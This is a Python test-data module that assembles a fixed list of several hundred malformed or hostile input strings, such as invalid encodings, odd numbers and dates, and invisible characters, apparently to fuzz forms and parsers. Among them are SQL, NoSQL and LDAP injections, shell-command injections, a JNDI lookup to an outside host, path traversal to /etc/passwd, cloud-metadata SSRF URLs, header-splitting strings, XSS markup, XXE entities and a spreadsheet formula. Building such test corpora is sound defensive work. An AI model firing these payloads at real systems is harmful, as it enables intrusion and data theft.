"""What no form, address or header was made for: strings that broke software somewhere, made from families.

All are bytes, as they come over the wire; many are no UTF-8. Where MARK stands in an answer or a log as it was
sent, it was passed on unread. None is empty, and none is there twice.
"""

import unicodedata
from itertools import product

MARK = "zq9"
# 7 * 191, if somebody calculates what is written between them.
CALCULATED = f"{MARK}1337{MARK}"

QUOTES = [
    "'", '"', "`", "''", '""', "\\'", '\\"', "'\"", "’", "“", "«", "﹁", "'\"`<>&", "\"'>", "\\", "\\\\",
    "\\u0022",
]  # fmt: skip
CONTROLS = [chr(code) for code in (*range(0x20), 0x7F, 0x80, 0x85, 0x9F)]
SPACES = [" ", "\u00a0", "\u1680", "\u2003", "\u2028", "\u2029", "\u202f", "\u3000", "\u180e", "\u2060", "\ufeff"]
UNSEEN = [
    "\u00ad", "\u034f", "\u061c", "\u115f", "\u17b4", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a",
    "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u3164", "\ufff9", "\ufffb",
    "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U000e0001", "\U000e0061", "\U0010ffff", "\ue000", "\U000f0000",
]  # fmt: skip
NOT_UTF_8 = [
    b"\xff", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\x80", b"\xbf\xbf", b"\xc0\x80", b"\xc0\xaf",
    b"\xc0\xae\xc0\xae/", b"\xc1\xbf", b"\xe0\x80\x80", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb8\x80", b"\xf0\x80\x80\xaf", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80", b"\xe2\x82", b"\xf0\x9f\x98", b"\xe9t\xe9", b"\x93quoted\x94",
    b"\x1b$B%F%9%H\x1b(B", b"\x83\x5c", b"+ADw-script+AD4-", b"\xef\xbb\xbf", b"\xef\xbf\xbe",
    b"%C0%AE%C0%AE%C0%AF", b"%", b"%%", b"%0", b"%zz", b"%u0041", b"%25%30%30",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "00", "01", "1.", ".1", "1.0", "1,0", "1e3", "1e309", "-1e-309", "1E+2", "0x10", "0b1",
    "0o7", "1_000", "1 000", "1\u00a0000", "NaN", "nan", "Infinity", "-Infinity", "inf", "null", "None", "nil",
    "true", "undefined", "[]", "{}", "127", "128", "255", "256", "32767", "32768", "65536", "2147483647",
    "2147483648", "-2147483649", "4294967296", "9007199254740993", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "18446744073709551616", "340282366920938463463374607431768211456", "9" * 99,
    "9" * 4300, "9" * 5000, "-" + "9" * 400, "0." + "0" * 400 + "1", "1" + "0" * 1000, "٠", "١٢٣", "۱۲۳", "१२३",
    "௧", "Ⅷ", "²", "½", "①", "㊿", "１２３", "𝟙𝟚𝟛", "𐒠", "٣٫٥", "1/0", "1-1", "--1", "+1",
]  # fmt: skip
DATES = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2024-02-30", "2023-02-29",
    "2024-13-01", "2024-00-10", "2024-1-1", "1900-02-29", "2038-01-19T03:14:08Z", "1970-01-01T00:00:00+23:59",
    "2016-12-31T23:59:60Z", "2024-01-01T25:00", "2024-W53-7", "31/12/2024", "٢٠٢٤-٠١-٠١", "2024-01-01'", "now()",
    "today", "-1 day", "999999999999",
]  # fmt: skip
FORMATS = [
    "%s%s%s%s%n", "%x" * 30, "%99999999d", "%(name)s", "%(", "%%%", "{}", "{0}", "{0.__class__.__mro__}", "{!r}",
    "{:>99999}", "{name!x}", "$1", "$$", "${HOME}", "$(id)", "{{{}}}", "\\N{BULLET}", "\\x00", "\\u0000", "&#0;",
    "&#x110000;", "&zq9;", "~{", "%D%A",
]  # fmt: skip
CALCULATIONS = [
    "{{7*191}}", "{{ 7*191 }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}", "@(7*191)",
    "{%if 1%}1337{%endif%}", "{{=7*191}}", "[[${7*191}]]", "{{'%d'|format(1337)}}", "{{7|multiply:191}}",
    "#set($x=7*191)$x", "{php}echo 1337;{/php}", "=7*191", "$((7*191))",
]  # fmt: skip
DATABASES = [
    "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE pages; --", "') OR ('1'='1", "1; SELECT pg_sleep(9)",
    "1 UNION SELECT NULL,NULL--", "' UNION ALL SELECT sqlite_version()--", "1' AND randomblob(1000000000)--",
    "\\'; --", "1/**/OR/**/1=1", "' || '1", "%' OR '%'='", "_%", "[^a]", "$$x$$", "E'\\x27'", "1::int",
    "0x31303235", "CHAR(39)", "'/*", "*/", "--", ";", "@@version", "? = ?", ":name", "$1 %s", "a:* & b",
    "a <-> b", "!!", "((((", "a | | b", "'a':1A", "a <9999999> b", "NEAR(a b, 99999999999)", "a NOT", "NOT",
    "AND OR NOT", '"a', '""""', "a*b*", "^a", "title:a", "{a b} : c", "- - -", "+a -b", "col:a",
    " ".join(f'"x{n}"' for n in range(300)), '{"$gt": ""}', '{"$where": "sleep(9000)"}', "[$ne]=1",
    "*)(uid=*))(|(uid=*", "*)(&", "(|(cn=*))", "\\2a\\28", "' or '1'='1' or ''='", "x' or name()='u",
    "count(/child::node())", "//*", "]]>", "' and doc('http://elsewhere.example/')",
]  # fmt: skip
COMMANDS = [
    "; id", "| id", "|| id", "&& id", "& ping -n 9 127.0.0.1 &", "`id`", "$(id)", "$(sleep 9)", "\nid\n",
    "a;{id,}", "-oProxyCommand=id", "--help", "-rf", "<!--#exec cmd='id'-->", "() { :;}; echo x", "import os",
    "__import__('os').system('id')", "eval('1')", "cos\nsystem\n(S'id'\ntR.", "O:8:\"stdClass\":0:{}", "rO0ABXNy",
    "!!python/object/apply:os.system ['id']", "\x04\bo:\x0bObject", "${jndi:ldap://elsewhere.example/a}",
]  # fmt: skip
PLACES = [
    "../" * 12 + "etc/passwd", "..%2f" * 8 + "etc/passwd", "..\\" * 8 + "windows\\win.ini", "%2e%2e%2f" * 6,
    "....//....//etc/passwd", "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "C:\\boot.ini",
    "\\\\elsewhere.example\\c$", "./.", ".", "..", "/", "//", "///", "//elsewhere.example/",
    "/\\elsewhere.example/", "\\/\\/elsewhere.example", "https://elsewhere.example/", "https:elsewhere.example",
    "http://127.0.0.1:22/", "http://[::1]/", "http://169.254.169.254/latest/", "http://0x7f.1/",
    "https://testserver@elsewhere.example/", "https://elsewhere.example#testserver", "javascript:alert(7)",
    "data:text/html,x", "vbscript:x", "ftp://elsewhere.example", ".git/config", ".env", ".htaccess", "con", "nul",
    "aux.txt", "a" * 300 + ".pdf", "x.php%00.jpg", "x.jpg\x00.php", "index.php?x=1", "a;b", "a,b", "a:b", "~root",
    "*", "?", "a\tb", "%2F", "%5C", "%00", "%0d%0a", "%E5%98%8A%E5%98%8D", "?q=1&q=2", "#x", "&amp;", "a=b&c=d",
]  # fmt: skip
LINES = [
    "\r\nSet-Cookie: zq9=1", "\nLocation: https://elsewhere.example/", "\r\n\r\n<html>zq9", "\rX: zq9",
    "\u2028X: zq9", "\x0b", "\x0c", "a\r\nBcc: victim@elsewhere.example", "a%0d%0aBcc: x@elsewhere.example",
    "a@example.org\nBcc: x@elsewhere.example", "嘊嘍Set-Cookie: zq9", "=?utf-8?q?=0D=0ABcc:x?=",
    "\n.\nMAIL FROM:<x>", "\x1b[31m", "\x1b]0;zq9\x07", "\x07", "\x08" * 20,
]  # fmt: skip
MARKUP = [
    f"<{MARK}>", f"<{MARK} onload=alert(7)>", f"</title><{MARK}>", f"</textarea><{MARK}>", f"</script><{MARK}>",
    f"--><{MARK}>", f"<script>{MARK}()</script>", f"<img src=x onerror={MARK}()>", f"<svg/onload={MARK}()>",
    f"<a href='javascript:{MARK}()'>x", f"<<{MARK}", f'"{MARK}="', f"'{MARK}='",
    f'"{MARK} autofocus onfocus=alert(7) x="', f"<!-- {MARK}", f"<![CDATA[{MARK}", f"<?{MARK}?>", f"<!{MARK}",
    f"&lt;{MARK}&gt;", f"&#60;{MARK}&#62;", f"\uff1c{MARK}\uff1e", f"%3C{MARK}%3E", f"\\x3c{MARK}\\x3e",
    f"\\u003c{MARK}\\u003e", f"<\x00{MARK}>", f"<{MARK}/", f"<{MARK} style=x:expression(7)>",
    f"<math><mi//xlink:href='data:x,<{MARK}>'>", f"[{MARK}](javascript:x)", f"</{MARK}>",
]  # fmt: skip
DOCUMENTS = [
    "[" * 3000, "{" * 500, '{"a":' * 2000, "[1,", '{"a":1,"a":2}', '{"__proto__":{}}', '{"\\ud800":1}',
    '"\\ud800"', "[1e400]", "nul", "1" * 5000, "\x00{}", "{}{}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<x>" * 1000,
    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></x>", "%PDF-1.4", "GIF89a",
    "\x89PNG\r\n\x1a\n", "PK\x03\x04", "--boundary--", "BEGIN:VCARD", "=cmd|' /C calc'!A0", "@SUM(1)", "-1+1",
    "+1+1",
]  # fmt: skip
PICTURES = [
    "😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "👩🏿‍🚀", "🇬🇭", "🇬", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "1️⃣", "☠︎", "☠️", "❤" * 200, "\U0001f9f5" * 100,
    "\u200d" * 50, "\ufe0f" * 50, "🏿", "(╯°□°）╯︵ ┻━┻", "¯\\_(ツ)_/¯",
]  # fmt: skip
LETTERS = [
    "ß", "ẞ", "ﬁ", "İ", "ı", "ſ", "K", "Å", "ǅ", "ﷺ", "ﷲ", "Ω", "Ω", "ŉ", "ΐ", "ὒ", "؀", "܏", "ก็็็็็็็็็็", "ଽ",
    "꙰", "𓀀", "𝒂𝒃", "ＡＢ", "аdmin", "аmа@example.org", "ama@exаmple.org", "ama@xn--80ak6aa92e.com", "田中さん",
    "社會科學院", "パーティ", "울란바토르", "הָיְתָה", "مُنَاقَشَةُ سُبُلِ", "ﷺﷺﷺ", "Ⱥ", "ⱦ", "ŰŐ", "Ё", "ѨѪ", "ⴀ", "Ꭰ", "ᚠᛇ",
    "हिन्दी", "ไทย", "Zażółć", "Tiếng Việt", "ʇxǝʇ", "t̷e̷x̷t̷", "NULL", "null", "Null", "True", "constructor",
    "__proto__", "toString", "__class__", "admin", "root", "test", "CON", "undefined",
]  # fmt: skip
LONG = [
    "a" * 255, "a" * 256, "a" * 1025, "a" * 7000, "é" * 2000, "ا" * 2000, "\U0001f9f5" * 1500, "a " * 3000,
    "ab" * 30_000, "\n" * 5000, "<" * 5000, "&" * 5000, '"' * 5000, "(" * 3000, "a@" * 2000, "a." * 2000,
    "-" * 5000, "/" * 3000, "%" * 3000, "a" + "\u0301" * 2000, "\u202e" * 1000,
    "x" * 64 + "@" + "y." * 120 + "org", "!" + "a" * 40 + "!", "a" * 30 + "!", " " * 5000, "0" * 5000,
    "\x00" * 1000, "ﷺ" * 1000, "İ" * 1000, "ŉ" * 1000,
]  # fmt: skip
ADDRESSES = [
    "@", "a@", "@b", "a@b", "a@b@c", '"a b"@example.org', "a@[127.0.0.1]", "a@localhost", "a..b@example.org",
    ".a@example.org", "a@example..org", "a@-x.org", "a@example.org.", "ä@example.org", "a@ex\u3002ample.org",
    "a+b@example.org", "A@EXAMPLE.ORG", "a@example.org,b@example.org", "a@example.org;b", "<a@example.org>",
    "mailto:a@example.org", "a%b@example.org", "a@example.org\x00", "a@example.org\u200b",
    "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed", "{1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed}", "urn:uuid:1b9d6bcd",
    "eyJhIjoxfQ:1:x", "eyJhIjoxfQ", "a:b:c", ".eJw:1:x", "====", "YQ", "-_-_", "RF18539007547034", "RF00",
    "DE89370400440532013000", "1234567890123456", "1234-5678", "0" * 16,
]  # fmt: skip


def _zalgo(text: str) -> str:
    return "".join(
        sign + "".join(chr(0x300 + (place * 7 + step) % 0x70) for step in range(20))
        for place, sign in enumerate(text)
    )


def strings() -> list[bytes]:
    """Return more than 900, always the same, those with MARK among them where it changes nothing else."""
    made: list[str | bytes] = [
        *NUMBERS,
        *DATES,
        *FORMATS,
        *DATABASES,
        *COMMANDS,
        *PLACES,
        *LINES,
        *MARKUP,
        *DOCUMENTS,
        *PICTURES,
        *LETTERS,
        *LONG,
        *ADDRESSES,
    ]
    made += [f"{MARK}{calculation}{MARK}" for calculation in CALCULATIONS]
    made += [
        f"{before}{sign}{after}" for sign, (before, after) in product(QUOTES, [("", ""), (MARK, MARK), ("", MARK)])
    ]
    made += [
        f"{before}{sign}{after}"
        for sign, (before, after) in product([*CONTROLS, *SPACES, *UNSEEN], [("", ""), (MARK, MARK)])
    ]
    made += [b"".join(parts) for parts in product([b"", MARK.encode()], NOT_UTF_8)]
    made += [
        _zalgo(MARK),
        unicodedata.normalize("NFD", "Ấ Å 각"),
        "\ud800",
        "\udfff",
        "\udc00\ud800",
        f"{MARK}\ud83d",
        "\ud83d\ude00",
    ]
    sent = [text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text for text in made]
    return [text for text in dict.fromkeys(sent) if text]
